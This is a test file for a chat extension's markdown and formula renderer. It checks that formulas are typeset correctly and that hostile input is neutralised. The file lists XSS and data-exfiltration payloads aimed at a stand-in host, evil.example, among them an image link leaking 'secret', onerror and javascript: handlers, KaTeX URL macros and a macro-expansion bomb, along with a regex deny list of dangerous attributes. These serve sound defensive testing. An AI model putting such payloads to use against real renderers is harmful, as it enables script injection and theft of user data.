// @vitest-environment jsdom
import fc from 'fast-check';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { MarkdownView } from '../../../extension/src/webview/chat/messages/markdownView';

const actions = { copy: vi.fn(), insert: vi.fn(), apply: vi.fn(), newFile: vi.fn(), preview: vi.fn(), runInTerminal: vi.fn() };

function render(text: string): HTMLElement {
  const view = new MarkdownView(actions);
  view.update(text, true);
  return view.node;
}

beforeAll(async () => {
  await import('../../../extension/src/webview/formulas/main');
});

describe('a formula', () => {
  it.each([
    ['so $a*b*c$ is', 1, 0],
    ['\\(x_1\\)', 1, 0],
    ['\\[x_1\\]', 1, 1],
    ['$$\nx^2 \\\\\n+ y^2\n= 1\n$$', 1, 1],
    ['where\n$$\na\n- b\n$$\nholds', 1, 1],
    ['\\[\n\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}\n\\]', 1, 1],
    ['- item\n\n  $$\n  x\n  $$\n- $y$', 2, 1],
    ['| a | b |\n|---|---|\n| $x^2$ | 1 |', 1, 0],
    ['$5 = x$ and $10^3$', 2, 0],
    ['> $$x$$', 1, 1],
  ])('is set in %j', (text, formulas, displayed) => {
    const node = render(text);
    expect(node.querySelectorAll('math')).toHaveLength(formulas);
    expect(node.querySelectorAll('.formula.display math')).toHaveLength(displayed);
    expect(node.querySelector('annotation')).toBeNull();
  });

  it.each([
    'It costs $5 and $6.',
    'between $5 and 6$ a month',
    'from $5-$10, or $20/$30',
    'US$5 and A$6',
    'pay $5 for one month, or 6$ for two',
    'echo $HOME:$PATH',
    'escaped \\$x\\$ stays',
    'a `$x$` in code',
    '```\n$$x$$\n```',
    '    $$\n    x\n    $$',
    '$$ is money',
    '$ x $',
  ])('is not seen in %j', (text) => {
    expect(render(text).querySelector('math, .formula')).toBeNull();
  });

  it('that is invalid is shown as written', () => {
    const node = render('so $\\frac{a}$ is');
    expect(node.textContent).toContain('$\\frac{a}$');
    expect(node.querySelector('.formula.unset')).not.toBeNull();
  });

  it('that would grow without end is left as it was, at once', () => {
    const begun = performance.now();
    const bomb =
      '$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c\\c\\c\\c\\c\\c$';
    expect(render(bomb).querySelector('math')).toBeNull();
    expect(performance.now() - begun).toBeLessThan(1000);
  });

  it.each([
    '$\\href{https://evil.example}{x}$',
    '$\\url{https://evil.example}$',
    '$\\includegraphics{https://evil.example/a.png}$',
    '$\\htmlId{app}{x}$',
    '$\\htmlStyle{background:url(https://evil.example)}{x}$',
    '$\\htmlData{href=https://evil.example}{x}$',
    '$\\htmlClass{send}{x}$',
    '$\\color{red;background:url(https://evil.example)}x$',
    '$\\text{<img src=x onerror=alert(1)>}$',
  ])('%s brings nothing with it but drawing', (text) => {
    expectHarmless(render(text));
    expect(render(text).querySelector('a, img, .send')).toBeNull();
  });
});

const hostile = fc.constantFrom(
  ...[
    '![x](https://evil.example/a.png?d=secret)',
    '[x](https://evil.example)',
    '![x][r]\n\n[r]: https://evil.example/a.png',
    '<https://evil.example>',
  ],
  ...['![x](data:image/svg+xml;base64,PHN2Zz4=)', '![x](data:image/png;base64,iVBORw0KGgo=)', '![x](data:text/html;base64,PHN2Zz4=)'],
  ...[
    '<img src="https://evil.example/a" srcset="https://evil.example/b 2x">',
    '<video poster="https://evil.example/p">',
    '<a href="//evil.example" ping="https://evil.example">',
  ],
  ...[
    '<body background="https://evil.example/b">',
    '<p style="background:url(https://evil.example)">',
    '<form action="https://evil.example"><button formaction="https://evil.example">',
  ],
  ...[
    '<svg><image xlink:href="https://evil.example"/></svg>',
    '<math><maction actiontype="statusline" href="https://evil.example">',
    '<base href="https://evil.example">',
  ],
  ...[
    '<div id="app" name="body" onclick="alert(1)">',
    '$\\href{https://evil.example}{x}$',
    '$$\n\\includegraphics{https://evil.example/a}\n$$',
    '\\(\\htmlId{app}{x}\\)',
  ],
  ...[
    '```html src="https://evil.example" id=app\n<img src=x>\n```',
    '```mermaid\nclick A "https://evil.example"\n```',
    '| <img src=//evil.example> |\n|--|\n| ![x](https://evil.example) |',
  ],
  ...[
    '- [ ] [x](javascript:alert(1))',
    '# <x id=app> {#app}',
    '[^1]: <img src=//evil.example>',
    '"',
    '>',
    '`',
    '\n\n',
    '\\',
    '$',
    '|',
    '<!--',
    ']]>',
    '&lt;img src=x&gt;',
  ],
);

describe('Any response', () => {
  it('nothing of it has an address on the network, runs, or takes a name of the page', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof({ weight: 3, arbitrary: hostile }, { weight: 1, arbitrary: fc.string() }), { maxLength: 8 }),
        (pieces) => {
          expectHarmless(render(pieces.join('')));
        },
      ),
      { numRuns: 300 },
    );
  }, 30_000);

  it('a small embedded image is shown, and an external one is a link', () => {
    const image = render('![a dot](data:image/png;base64,iVBORw0KGgo=)').querySelector('img');
    expect([image?.alt, image?.getAttribute('src')]).toEqual(['a dot', 'data:image/png;base64,iVBORw0KGgo=']);
    expect(render('![a dot](https://cdn.example/a.png)').querySelector('img')).toBeNull();
    expect(render('![a plan](docs/plan.png)').querySelector('a')?.dataset['href']).toBe('docs/plan.png');
    expect(render('[x](data:image/png;base64,iVBORw0KGgo=)').querySelector('a, img')).toBeNull();
  });
});

/** Attributes that make a browser load, navigate or run something, or that let an element replace one of the page's. */
const dangerous =
  /^(?:on.*|src|srcset|href|xlink:href|poster|background|style|action|formaction|ping|data|cite|id|name|for|is|slot|http-equiv|manifest|codebase|longdesc|profile|usemap|srcdoc)$/i;

function expectHarmless(node: HTMLElement): void {
  for (const element of node.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const isOwnPicture = element.tagName === 'IMG' && name === 'src' && /^data:image\/(?:png|jpeg|gif|webp);base64,[\w+/=]+$/.test(value);
      if (!isOwnPicture) expect(`${element.tagName} ${name}`).not.toMatch(new RegExp(`^\\S+ ${dangerous.source.slice(1, -1)}$`, 'i'));
    }
  }
  expect(node.querySelector('script,iframe,style,form,input,svg,object,embed,link,base,video,audio,meta,template')).toBeNull();
}
